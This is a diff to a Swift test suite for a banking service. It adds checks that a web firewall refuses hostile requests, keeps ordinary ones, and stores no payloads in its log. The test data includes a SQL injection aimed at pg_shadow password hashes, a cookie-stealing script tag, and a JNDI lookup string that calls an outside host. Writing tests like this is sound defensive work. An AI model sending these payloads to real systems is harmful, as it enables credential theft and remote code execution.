@@ -13,13 +13,15 @@ import Testing
             try FileManager.default.createDirectory(atPath: logs, withIntermediateDirectories: true)
             bank.kill(SIGTERM)
             try await bank.start(
-                "--watch", logs, "--respond", "--trusted-proxy", "127.0.0.1", "--protect", "192.0.2.0/24")
+                "--watch", logs, "--respond", "--trusted-proxy", "127.0.0.1", "--protect", "192.0.2.0/24",
+                "--waf", "block", "--waf-log", bank.data + "/waf.jsonl")
             func status(from address: String) async throws -> Int {
                 try await bank.request(
                     "GET", "/rest/v1/comptes?select=id&limit=1", headers: ["X-Forwarded-For": address]
                 ).status
             }
             #expect(try await status(from: "203.0.113.7") == 200)
+            try await Self.expectGuarded(bank)
             // Thirty guesses and a way in, from an attacker and from a network that is never banned.
             var text = ""
             let form = DateFormatter()
@@ -70,9 +72,43 @@ import Testing
                 try await Task.sleep(for: .milliseconds(20))
             }
             #expect(try await status(from: "203.0.113.7") == 200)
+            let planned = try await bank.request(
+                "POST", "/detection/v1/responses",
+                body: #"{"action": "ban_address", "target": "203.0.113.8", "reason": "by the service"}"#)
+            #expect(planned.status == 403 && planned.body.contains("detection_forbidden"), "\(planned.body)")
             let refused = try await Program.run(
                 "respond", "do", "ban_address", "10.0.0.1", "--reason", "a mistake", "--data-dir", bank.data)
             #expect(refused.status != 0 && refused.error.contains("bank's own networks"), "\(refused.error)")
         }
+    }
+
+    /// Attacks in address, body and header are refused, ordinary requests are not, and no payload is kept.
+    private static func expectGuarded(_ bank: ServedBank) async throws {
+        let attacks: [(String, String, String, [String: String])] = [
+            (
+                "GET", "/rest/v1/comptes?select=id&type=eq.x'%20union%20select%20usename,passwd%20from%20pg_shadow--",
+                "", [:]
+            ),
+            ("POST", "/rest/v1/rpc/virer", #"{"p_motif": "<script>document.cookie</script>"}"#, [:]),
+            ("GET", "/rest/v1/comptes?select=id", "", ["User-Agent": "${jndi:ldap://203.0.113.9/a}"]),
+        ]
+        for (method, target, body, headers) in attacks {
+            let answer = try await bank.request(method, target, body: body, headers: headers)
+            #expect(answer.status == 403 && answer.body.contains("request_refused"), "\(target): \(answer.body)")
+        }
+        for target in [
+            "/rest/v1/comptes?select=id,solde_minor&or=(type.eq.courant,type.eq.epargne)&order=id.desc&limit=3",
+            "/rest/v1/clients?select=numero,comptes(id)&statut=in.(actif,clos)&limit=1",
+        ] {
+            let answer = try await bank.request("GET", target)
+            #expect(answer.status == 200, "\(target): \(answer.body)")
+        }
+        var kept = ""
+        for _ in 0..<200 where kept.split(separator: "\n").count < attacks.count {
+            kept = (try? String(contentsOfFile: bank.data + "/waf.jsonl", encoding: .utf8)) ?? ""
+            try await Task.sleep(for: .milliseconds(20))
+        }
+        #expect(kept.split(separator: "\n").count >= attacks.count, "\(kept)")
+        #expect(!kept.contains("pg_shadow") && !kept.contains("document.cookie") && !kept.contains("jndi"), "\(kept)")
     }
 }
